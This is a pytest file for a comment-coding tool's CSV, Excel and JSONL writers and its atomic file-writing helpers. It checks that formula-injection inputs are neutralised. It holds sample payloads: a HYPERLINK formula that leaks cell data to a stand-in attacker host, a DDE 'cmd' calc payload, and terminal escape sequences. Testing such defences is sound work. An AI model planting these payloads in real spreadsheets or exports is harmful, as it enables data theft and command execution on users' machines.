"""Output writers (formula-safe CSV cells, column names) and atomic file writing."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import threading
from pathlib import Path

import pytest
from conftest import TINY_CODEBOOK

from coder.codebook import Codebook
from coder.codebook_io import parse_codebook
from coder.errors import OutputError
from coder.fileio import atomic_open, atomic_path, atomic_write_text
from coder.results import CommentResult, Evidence, Suggestion
from coder.table_out import XLSX_CELL_CHARS, XLSX_COLUMNS, open_rows
from coder.writers import JsonlWriter, LongWriter, WideWriter, added_columns, neutralise

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture(scope="module")
def tiny() -> Codebook:
    return parse_codebook(TINY_CODEBOOK, "tiny.yaml")


def result_for(text: str) -> CommentResult:
    return CommentResult(
        text=text,
        scores={"time": 0.91234, "cost": 0.1, "box_ticking": 0.0},
        suggestions=[
            Suggestion(
                "time",
                "Time",
                0.91234,
                "rule",
                (Evidence("=HYPERLINK", 0, 10, "pattern"), Evidence("-no time", 12, 20, "pattern")),
            ),
            Suggestion("cost", "Cost", 0.6, "model"),
        ],
    )


def rows_of(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


# ---------------------------------------------------------------- neutralise


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2", "-2"),  # a plain number runs nothing, and stays numeric for statistics
        ("-0.25", "-0.25"),
        ("-2+3", "'-2+3"),
        ("-1e5", "'-1e5"),
        ("-2\n=cmd", "'-2\n=cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tindented", "'\tindented"),
        ("\rreturn", "'\rreturn"),
        (-3, "-3"),
        ("plain text", "plain text"),
        ("a = b", "a = b"),
        (" =not at start", " =not at start"),
        ("", ""),
        (None, ""),
        (7, "7"),
        (0.5, "0.5"),
    ],
)
def test_neutralise(value: object, expected: str) -> None:
    assert neutralise(value) == expected


# ---------------------------------------------------------------- writers


def test_wide_writer_neutralises_every_cell(tmp_path: Path, tiny: Codebook) -> None:
    path = tmp_path / "wide.csv"
    with open_rows(path) as rows:
        writer = WideWriter(rows, ["id", "comment", "@note"], tiny)
        writer.write("=1", {"id": "=1", "comment": FORMULA, "@note": "+x"}, result_for(FORMULA))
        writer.write("2", {"id": "2", "comment": "fine"}, CommentResult(text="fine"))
    assert rows_of(path) == [
        [
            "id", "comment", "'@note", "time", "cost", "box_ticking",
            "time_score", "cost_score", "box_ticking_score", "codes",
        ],
        ["'=1", "'" + FORMULA, "'+x", "1", "1", "0", "0.9123", "0.1000", "0.0000", "time;cost"],
        ["2", "fine", "", "0", "0", "0", "0.0000", "0.0000", "0.0000", ""],
    ]  # fmt: skip


def test_a_bare_carriage_return_cannot_start_a_row_inside_a_cell(tmp_path: Path) -> None:
    # Split at "\r", an unquoted cell would put a formula at the start of a new row.
    path = tmp_path / "out.csv"
    with open_rows(path) as rows:
        rows.write(["c1", "Great service\r=cmd|' /C calc'!A0"], tail=["North\r@SUM(1+1)"])
        rows.write(["c2", "fine"])
    data = path.read_bytes()
    assert data == (b'"c1","Great service\r=cmd|\' /C calc\'!A0","North\r@SUM(1+1)"\nc2,fine\n')
    assert rows_of(path) == [
        ["c1", "Great service\r=cmd|' /C calc'!A0", "North\r@SUM(1+1)"],
        ["c2", "fine"],
    ]


def test_wide_writer_renames_clashing_columns(tmp_path: Path, tiny: Codebook) -> None:
    path = tmp_path / "wide.csv"
    with open_rows(path) as rows:
        writer = WideWriter(rows, ["time", "codes", "cost_score"], tiny)
        writer.write("1", {"time": "9am", "codes": "X1", "cost_score": "5"}, result_for("t"))
    assert rows_of(path) == [
        [
            "time", "codes", "cost_score", "coder_time", "cost", "box_ticking",
            "time_score", "coder_cost_score", "box_ticking_score", "coder_codes",
        ],
        ["9am", "X1", "5", "1", "1", "0", "0.9123", "0.1000", "0.0000", "time;cost"],
    ]  # fmt: skip


def test_long_writer_neutralises_every_cell(tmp_path: Path, tiny: Codebook) -> None:
    path = tmp_path / "long.csv"
    with open_rows(path) as rows:
        writer = LongWriter(rows, ["id", "comment"], tiny)
        writer.write("=1", {"id": "=1", "comment": FORMULA}, result_for(FORMULA))
        writer.write("2", {"id": "2", "comment": "nothing"}, CommentResult(text="nothing"))
    assert rows_of(path) == [
        ["id", "theme", "label", "score", "source", "evidence", "evidence_start", "evidence_end"],
        ["'=1", "time", "Time", "0.9123", "rule", "'=HYPERLINK | -no time", "0", "10"],
        ["'=1", "cost", "Cost", "0.6000", "model", "", "", ""],
    ]


def workbook_cells(path: Path) -> list[list[tuple[object, str]]]:
    """Each cell of the first sheet as (value, openpyxl's data type: s text, n number, f
    formula, e error)."""
    from openpyxl import load_workbook

    sheet = load_workbook(path).worksheets[0]
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


def test_a_workbook_keeps_every_comment_as_text_and_scores_as_numbers(
    tmp_path: Path, tiny: Codebook
) -> None:
    path = tmp_path / "wide.xlsx"
    with open_rows(path) as rows:
        writer = WideWriter(rows, ["id", "comment", "note"], tiny)
        note = "#N/A\x07 bell"  # an error value's name, and a character XML cannot hold
        writer.write("=1", {"id": "=1", "comment": FORMULA, "note": note}, result_for(FORMULA))
    header, row = workbook_cells(path)
    assert [value for value, _ in header][:4] == ["id", "comment", "note", "time"]
    assert row == [
        ("=1", "s"),
        (FORMULA, "s"),  # exactly as written, stored as text: never run as a formula
        ("#N/A\ufffd bell", "s"),
        (1, "n"), (1, "n"), (0, "n"),
        (0.9123, "n"), (0.1, "n"), (0.0, "n"),
        ("time;cost", "s"),
    ]  # fmt: skip


def test_a_long_workbook_has_numbers_where_coder_made_them(tmp_path: Path, tiny: Codebook) -> None:
    path = tmp_path / "long.xlsx"
    with open_rows(path) as rows:
        LongWriter(rows, ["id", "comment"], tiny).write(
            "=1", {"id": "=1", "comment": FORMULA}, result_for(FORMULA)
        )
    assert workbook_cells(path)[1] == [
        ("=1", "s"), ("time", "s"), ("Time", "s"), (0.9123, "n"), ("rule", "s"),
        ("=HYPERLINK | -no time", "s"), (0, "n"), (10, "n"),
    ]  # fmt: skip


def test_a_workbook_writes_plain_numbers_as_numbers_and_keeps_the_rest_as_written(
    tmp_path: Path,
) -> None:
    path = tmp_path / "numbers.xlsx"
    given = ["34", "-3", "4.5", "007", "1.10", "2.0", "-0", "1234567890123456", "1e5", "-5 stars"]
    with open_rows(path) as rows:
        rows.write(given)
    assert workbook_cells(path) == [
        [
            (34, "n"), (-3, "n"), (4.5, "n"),
            ("007", "s"), ("1.10", "s"), ("2.0", "s"), ("-0", "s"),
            ("1234567890123456", "s"), ("1e5", "s"), ("-5 stars", "s"),
        ]
    ]  # fmt: skip


def test_a_workbook_refuses_what_excel_cannot_hold_and_leaves_no_file(tmp_path: Path) -> None:
    path = tmp_path / "big.xlsx"
    with pytest.raises(OutputError) as caught, open_rows(path) as rows:
        rows.write(["fine"])
        rows.write(["x" * (XLSX_CELL_CHARS + 1)])
    assert str(caught.value) == (
        f"{path}: row 2 has a cell of 32,768 characters, more than an Excel cell holds "
        "(32,767); write CSV instead (a name ending in .csv)"
    )
    assert list(tmp_path.iterdir()) == []


def test_jsonl_writer_keeps_the_text_as_it_is(tmp_path: Path, tiny: Codebook) -> None:
    path = tmp_path / "out.jsonl"
    with atomic_open(path) as handle:
        JsonlWriter(handle, ["id", "comment"], tiny).write(
            "=1", {"id": "=1", "comment": FORMULA}, result_for(FORMULA)
        )
    (line,) = path.read_text(encoding="utf-8").splitlines()
    record = json.loads(line)
    assert record["id"] == "=1"
    assert record["row"] == {"id": "=1", "comment": FORMULA}
    assert record["text"] == FORMULA
    assert record["codes"] == ["time", "cost"]
    assert record["scores"] == {"time": 0.9123, "cost": 0.1, "box_ticking": 0.0}
    assert record["suggestions"][0]["evidence"][0] == {
        "text": "=HYPERLINK", "start": 0, "end": 10, "kind": "pattern",
    }  # fmt: skip


def test_added_columns() -> None:
    assert added_columns(["id", "comment"], ["time", "cost"]) == {
        "time": "time",
        "cost": "cost",
        "time_score": "time_score",
        "cost_score": "cost_score",
        "codes": "codes",
    }
    assert added_columns(["id", "time", "codes", "cost_score"], ["time", "cost"]) == {
        "time": "coder_time",
        "cost": "cost",
        "time_score": "time_score",
        "cost_score": "coder_cost_score",
        "codes": "coder_codes",
    }


# ---------------------------------------------------------------- atomic writing


def test_atomic_open_writes_and_leaves_no_temp_file(tmp_path: Path) -> None:
    target = tmp_path / "out.txt"
    with atomic_open(target) as handle:
        handle.write("café\n")
        assert not target.exists()  # nothing at the target until the body succeeds
    assert target.read_bytes() == "café\n".encode()
    assert [p.name for p in tmp_path.iterdir()] == ["out.txt"]


def test_atomic_path_copies_into_a_pipe_and_leaves_it_a_pipe(tmp_path: Path) -> None:
    # A zip or workbook needs a file to be made in: made elsewhere, then copied in.
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(pipe.read_bytes()))
    reader.start()
    with atomic_path(pipe) as made:
        assert made.parent != tmp_path
        made.write_bytes(b"PK\x03\x04 a zip")
    reader.join(timeout=30)
    assert received == [b"PK\x03\x04 a zip"] and stat.S_ISFIFO(pipe.stat().st_mode)
    assert not made.exists() and [p.name for p in tmp_path.iterdir()] == ["pipe"]


def test_atomic_open_leaves_the_target_untouched_when_the_body_raises(tmp_path: Path) -> None:
    target = tmp_path / "out.txt"
    target.write_text("original\n", encoding="utf-8")
    with pytest.raises(RuntimeError, match="boom"), atomic_open(target, force=True) as handle:
        handle.write("half a fi")
        raise RuntimeError("boom")
    assert target.read_text(encoding="utf-8") == "original\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.txt"]


def test_atomic_open_creates_nothing_when_the_body_raises(tmp_path: Path) -> None:
    with pytest.raises(KeyboardInterrupt), atomic_open(tmp_path / "new.txt") as handle:
        handle.write("partial")
        raise KeyboardInterrupt
    assert list(tmp_path.iterdir()) == []


def test_atomic_open_refuses_an_existing_file_without_force(tmp_path: Path) -> None:
    target = tmp_path / "out.txt"
    target.write_text("original\n", encoding="utf-8")
    with pytest.raises(OutputError) as caught, atomic_open(target) as handle:
        handle.write("never")
    assert str(caught.value) == f"{target} already exists; use --force to overwrite it"
    assert target.read_text(encoding="utf-8") == "original\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.txt"]

    with atomic_open(target, force=True) as handle:
        handle.write("replaced\n")
    assert target.read_text(encoding="utf-8") == "replaced\n"


def test_atomic_open_refuses_a_missing_folder_and_a_folder(tmp_path: Path) -> None:
    missing = tmp_path / "no" / "out.txt"
    with pytest.raises(OutputError) as caught, atomic_open(missing):
        pass
    assert str(caught.value) == f"folder {missing.parent} does not exist; create it first"

    for force in (True, False):  # a folder is named as such, not as "already exists"
        with pytest.raises(OutputError) as caught, atomic_open(tmp_path, force=force):
            pass
        assert str(caught.value) == f"{tmp_path} is a folder; give a file name"


def test_atomic_open_dash_is_stdout(capsys: pytest.CaptureFixture[str]) -> None:
    with atomic_open("-") as handle:
        handle.write("to stdout\n")
    assert capsys.readouterr().out == "to stdout\n"


def test_atomic_path_cleans_up_on_failure(tmp_path: Path) -> None:
    target = tmp_path / "out.xlsx"
    with pytest.raises(ValueError), atomic_path(target) as tmp:
        tmp.write_bytes(b"partial")
        raise ValueError
    assert list(tmp_path.iterdir()) == []

    with atomic_path(target) as tmp:
        tmp.write_bytes(b"whole")
    assert target.read_bytes() == b"whole"
    assert [p.name for p in tmp_path.iterdir()] == ["out.xlsx"]


@pytest.mark.skipif(os.name != "posix", reason="POSIX file modes")
def test_atomic_writes_get_the_usual_permissions(tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        atomic_write_text(tmp_path / "out.yaml", "x")
    finally:
        os.umask(old)
    assert (tmp_path / "out.yaml").stat().st_mode & 0o777 == 0o644


def test_sigterm_part_way_through_a_write_leaves_neither_the_file_nor_a_temporary_one(
    tmp_path: Path,
) -> None:
    import os
    import signal

    from coder.cli import stop_cleanly_on_sigterm

    before = signal.getsignal(signal.SIGTERM)
    stop_cleanly_on_sigterm()
    try:
        with pytest.raises(SystemExit) as caught, atomic_open(tmp_path / "out.csv") as handle:
            handle.write("id,codes\n")
            os.kill(os.getpid(), signal.SIGTERM)  # `kill PID` while the export is written
            handle.write("never reached\n")
    finally:
        signal.signal(signal.SIGTERM, before)
    assert caught.value.code == 128 + signal.SIGTERM
    assert list(tmp_path.iterdir()) == []


def test_a_forked_worker_is_stopped_by_sigterm_as_usual() -> None:
    # A pool stops its workers with SIGTERM: one that raised SystemExit instead could miss it
    # while blocking on the pool's lock, and `coder train` then hung for good.
    import os
    import signal

    from coder.cli import stop_cleanly_on_sigterm

    before = signal.getsignal(signal.SIGTERM)
    stop_cleanly_on_sigterm()
    try:
        child = os.fork()
        if child == 0:  # the worker: report its handler as the exit status
            os._exit(0 if signal.getsignal(signal.SIGTERM) == signal.SIG_DFL else 1)
        _, status = os.waitpid(child, 0)
        assert os.waitstatus_to_exitcode(status) == 0
        assert signal.getsignal(signal.SIGTERM) not in (signal.SIG_DFL, before)  # the parent's
    finally:
        signal.signal(signal.SIGTERM, before)


def test_a_workbook_wider_than_excel_is_refused_and_nothing_is_written(tmp_path: Path) -> None:
    path = tmp_path / "wide.xlsx"
    with pytest.raises(OutputError) as caught, open_rows(path) as rows:
        rows.write([f"group {i}" for i in range(XLSX_COLUMNS)])  # as wide as Excel goes: fine
        rows.write([f"group {i}" for i in range(XLSX_COLUMNS + 1)])
    assert str(caught.value) == (
        f"{path}: row 2 has 16,385 columns, more than an Excel sheet holds (16,384); write CSV "
        "instead (a name ending in .csv)"
    )
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(("name", "where"), [("out.xlsx", "a workbook"), ("-", "stdout")])
def test_excel_is_refused_where_it_would_do_nothing(tmp_path: Path, name: str, where: str) -> None:
    path = name if name == "-" else tmp_path / name
    with pytest.raises(OutputError) as caught, open_rows(path, excel=True):
        pass
    assert str(caught.value) == f"--excel gives a CSV file a BOM for Excel; it is not for {where}"


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


ESCAPES = "\x1b[2J\x1b]0;x\x07 \u202e!"  # clear the screen, retitle it, turn the line round


@pytest.mark.parametrize(
    ("stdout", "shown"), [(_Terminal(), "␛[2J␛]0;x␇ \ufffd!"), (io.StringIO(), ESCAPES)]
)
def test_text_to_a_terminal_shows_control_characters_and_a_pipe_gets_them_as_written(
    monkeypatch: pytest.MonkeyPatch, stdout: io.StringIO, shown: str
) -> None:
    monkeypatch.setattr("sys.stdout", stdout)
    with open_rows("-") as rows:
        rows.write([ESCAPES, "b"])
    assert stdout.getvalue() == f"{shown},b\n"


def test_an_output_that_cannot_be_made_names_the_file_not_its_temporary_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def read_only(prefix: str, suffix: str, dir: Path) -> None:
        raise OSError(30, "Read-only file system", str(dir / f"{prefix}abc{suffix}"))

    monkeypatch.setattr("tempfile.mkstemp", read_only)
    with pytest.raises(OutputError) as caught, atomic_open(tmp_path / "out.csv"):
        pass
    assert str(caught.value) == f"cannot write {tmp_path / 'out.csv'}: Read-only file system"


def test_a_full_disk_under_a_workbook_names_the_workbook_and_leaves_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno

    from coder.xlsx_stream import SheetStream

    def full(*_: object) -> None:  # a disk cannot be filled here: what the write raises then
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(SheetStream, "_flush", full)
    path = tmp_path / "coded.xlsx"
    with pytest.raises(OutputError) as caught, open_rows(path) as rows:
        rows.write(["id", "text"])
    assert str(caught.value) == (
        f"{path}: no space left on the disk (the workbook's rows wait in a file beside it until "
        "it is written); free space there, write it to another disk, or write CSV (a name "
        "ending in .csv), which takes less"
    )
    assert list(tmp_path.iterdir()) == []
